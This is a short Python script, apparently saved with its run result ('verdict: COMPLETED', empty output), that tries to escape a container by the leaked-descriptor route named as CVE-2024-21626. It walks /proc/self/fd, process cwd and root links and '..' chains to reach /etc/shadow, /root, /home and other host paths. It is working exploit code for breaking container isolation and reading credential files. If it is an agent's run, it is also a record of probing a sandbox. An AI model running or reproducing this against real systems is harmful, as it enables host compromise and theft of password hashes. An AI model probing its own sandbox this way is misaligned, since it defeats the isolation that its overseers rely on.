# Walks out through what may have been left open: every descriptor, every process's root and directory, and up (CVE-2024-21626).
# verdict: COMPLETED
# prints: out []
import os
out = []
starts = [f"/proc/self/fd/{fd}" for fd in range(0, 64)] + [f"/proc/self/task/{os.getpid()}/fd/{fd}" for fd in range(4)]
starts += ["/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "/proc/thread-self/cwd", "."]
for start in starts:
    for up in ("", "/..", "/../..", "/../../../../../../.."):
        for target in ("/etc/shadow", "/root", "/home", "/var/lib", "/boot"):
            path = start + up + target
            try:
                (os.listdir if os.path.isdir(path) else lambda p: open(p).read())(path)
                out.append(path)
            except OSError:
                pass
print("out", out)
